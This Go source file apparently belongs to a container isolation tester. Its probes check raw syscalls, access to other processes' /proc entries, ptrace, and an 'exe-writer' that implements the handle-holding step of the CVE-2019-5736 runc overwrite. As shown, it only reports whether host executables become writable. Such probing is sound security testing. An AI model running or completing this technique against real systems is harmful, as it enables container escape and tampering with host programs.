package main

import (
	"fmt"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

var probeApplets = []applet{
	{"syscall", "NUMBER [ARG...]: the errno of a raw system call", rawSyscall},
	{"proc-probe", "PID: what of /proc/PID can be opened, and can it be traced?", func(args []string) int {
		return printJSON(procProbe(args[0]))
	}},
	{"proc-watch", "SECONDS: the descriptors and programs of others that could be seen", procWatch},
	{"exe-writer", "SECONDS: write to the programs of others, until SIGTERM", exeWriter},
	{"open", "PATH rdonly|wronly|rdwr|path", func(args []string) int {
		mode := map[string]int{"rdonly": unix.O_RDONLY, "wronly": unix.O_WRONLY, "rdwr": unix.O_RDWR, "path": unix.O_PATH}[args[1]]
		fd, err := unix.Open(args[0], mode|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
		if err == nil {
			unix.Close(fd)
		}
		fmt.Println(outcome(err))
		return 0
	}},
}

func rawSyscall(args []string) int {
	var a [7]uintptr
	for i := range min(len(args), len(a)) {
		a[i] = uintptr(intArg(args, i, 0))
	}
	_, _, errno := unix.RawSyscall6(a[0], a[1], a[2], a[3], a[4], a[5], a[6])
	fmt.Println(outcome(errno))
	return 0
}

func procProbe(pid string) map[string]string {
	found := map[string]string{}
	for _, name := range []string{"mem", "fd", "root", "exe", "cwd", "environ", "maps", "ns/mnt", "map_files"} {
		fd, err := unix.Open("/proc/"+pid+"/"+name, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
		if err == nil {
			unix.Close(fd)
		}
		found[name] = outcome(err)
	}
	n, _ := strconv.Atoi(pid)
	err := unix.PtraceSeize(n)
	if err == nil {
		_ = unix.PtraceDetach(n)
	}
	found["ptrace"] = outcome(err)
	return found
}

// ProcWatch reads over and over what /proc tells of every process but its own,
// to catch one in the moment when it has more than it should.
func procWatch(args []string) int {
	seen := map[string]int{}
	for end := time.Now().Add(durationArg(args, 0, time.Second)); time.Now().Before(end); {
		procs, err := os.ReadDir("/proc")
		if err != nil {
			return check(err)
		}
		for _, p := range procs {
			if n, err := strconv.Atoi(p.Name()); err != nil || n == os.Getpid() {
				continue
			}
			dir := "/proc/" + p.Name() + "/"
			links, err := os.ReadDir(dir + "fd")
			for _, l := range links {
				if target, err := os.Readlink(dir + "fd/" + l.Name()); err == nil {
					seen["fd "+strings.TrimRight(target, "0123456789]")]++
				}
			}
			if err != nil {
				seen["fd "+outcome(err)]++
			}
			if exe, err := os.Readlink(dir + "exe"); err == nil {
				seen["exe "+exe]++
			}
		}
	}
	return printJSON(seen)
}

// ExeWriter is CVE-2019-5736 from the container's side: it opens the programs of
// others without effect, so that they can still be executed, and then for
// writing as soon as nobody executes them any more.
func exeWriter(args []string) int {
	fmt.Println("ready")
	done := make(chan os.Signal, 1)
	signal.Notify(done, unix.SIGTERM)
	held := map[string]int{} // what is open, by its name
	for end := time.Now().Add(durationArg(args, 0, time.Second)); time.Now().Before(end) && len(done) == 0; {
		procs, err := os.ReadDir("/proc")
		if err != nil {
			return check(err)
		}
		for _, p := range procs {
			if n, err := strconv.Atoi(p.Name()); err != nil || n == os.Getpid() {
				continue
			}
			name, err := os.Readlink("/proc/" + p.Name() + "/exe")
			if err != nil || held[name] != 0 {
				continue
			}
			if fd, err := unix.Open("/proc/"+p.Name()+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
				held[name] = fd
			}
		}
		for name, fd := range held {
			if fd < 0 {
				continue
			}
			w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
			if err == nil {
				unix.Close(w)
				fmt.Println("written", name)
				unix.Close(fd)
				held[name] = -1
			}
		}
	}
	return 0
}
